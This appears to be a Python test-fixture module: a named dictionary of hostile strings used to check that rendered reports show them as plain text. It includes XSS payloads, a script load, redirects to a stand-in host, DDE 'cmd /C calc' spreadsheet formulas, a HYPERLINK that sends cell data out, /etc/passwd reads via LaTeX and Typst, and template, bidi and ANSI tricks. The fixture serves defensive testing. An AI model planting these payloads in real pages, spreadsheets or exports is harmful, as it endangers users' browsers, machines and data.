"""Strings that try to become something else where a report shows them: 40 and more, by what they aim at.

Importable by any test. None of them may act: each is to be seen as the characters that it is made of.
"""

from __future__ import annotations

from typing import Final

MARK: Final = "zzpwned"
"""Set as a global by every script among them: a browser test looks for ``window.zzpwned``."""

ATTACKS: Final[dict[str, str]] = {
    "script": f"<script>window.{MARK}=1</script>",
    "script-upper": f"<ScRiPt src=//203.0.113.9/x.js></sCrIpT><script>{MARK}=1</script>",
    "img-onerror": f"<img src=x onerror=window.{MARK}=1>",
    "svg-onload": f"<svg onload=window.{MARK}=1><circle r=9/></svg>",
    "svg-script": f"<svg><script>window.{MARK}=1</script></svg>",
    "details-toggle": f"<details open ontoggle=window.{MARK}=1>x</details>",
    "iframe": f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    "math-href": f'<math><a xlink:href="javascript:{MARK}=1">x</a></math>',
    "breaks-out-of-attribute": f'" autofocus onfocus="window.{MARK}=1" x="',
    "breaks-out-single": f"' onmouseover='window.{MARK}=1' x='",
    "closes-title": f"</title></style><script>window.{MARK}=1</script>",
    "closes-textarea": f"</textarea></template><img src=x onerror=window.{MARK}=1>",
    "comment": f"<!--><script>window.{MARK}=1</script>-->",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://203.0.113.9/">',
    "base": '<base href="https://203.0.113.9/">',
    "form": '<form action="https://203.0.113.9/"><input name=a autofocus></form>',
    "style": "<style>*{display:none!important}</style>",
    "css": "}*{display:none!important}/*",
    "css-url": "background:url(https://203.0.113.9/x.png)",
    "entities": f"&lt;script&gt;window.{MARK}=1&lt;/script&gt; &#60;b&#62; &amp;",
    "js-url": f"javascript:window.{MARK}=1",
    "data-url": f"data:text/html,<script>window.{MARK}=1</script>",
    "markdown-link": f"[click me](javascript:window.{MARK}=1)",
    "markdown-image": "![x](https://203.0.113.9/x.png) <https://203.0.113.9/>",
    "markdown-block": "# Heading\n\n* item **bold** _it_ `code`\n\n> quote",
    "latex": r"$$\frac{1}{0}\href{javascript:alert(1)}{x}$$ \(x\) \input{/etc/passwd}",
    "streamlit-directive": ":red[red] :material/home: :blue-badge[x] :rainbow[y] :small[z]",
    "streamlit-shortcode": ":smile: :sunglasses: :streamlit:",
    "typst-code": '#panic("x") #eval("1") #read("/etc/passwd") #import "@preview/x:0.1.0"',
    "typst-markup": '= Title\n*strong* _emph_ `raw` $ x^2 $ <label> @label #link("https://203.0.113.9")[x] \\',
    "typst-break-string": '"] #panic() #["',
    "formula": "=1+1",
    "formula-dde": "=cmd|' /C calc'!A0",
    "formula-hyperlink": '=HYPERLINK("https://203.0.113.9/?"&A1,"open")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-full-width": "＝1+1 ＋1 －1 ＠SUM(1)",
    "formula-after-blank": " \t=1+1",
    "formula-after-return": "\r=1+1",
    "csv-quote": 'a","=1+1","b',
    "csv-newline": 'a"\r\n=1+1,"b',
    "csv-semicolon": "a;=1+1;b",
    "csv-separator-line": "sep=;",
    "bidi": "safe \u202egnp.exe\u202c \u2066iso\u2069 \u200fright",
    "zero-width": "e\u200bx\u200co\u200ds\u2060o\ufeffme\u00ad",
    "ansi": "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x1b[0m \x9b2J",
    "null": "before\x00after\x08\x7f",
    "surrogate": "lone \ud800 surrogate",
    "line-separators": "one\u2028two\u2029three\x85four",
    "tags-block": "flag\U000e0041\U000e007f",
    "endless": "W" * 400,
    "braces": "{name} {{}} {0} {evaluation.__class__} %s %(name)s ${x} {% raw %}",
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
}
"""By a short name that a failing test shows."""
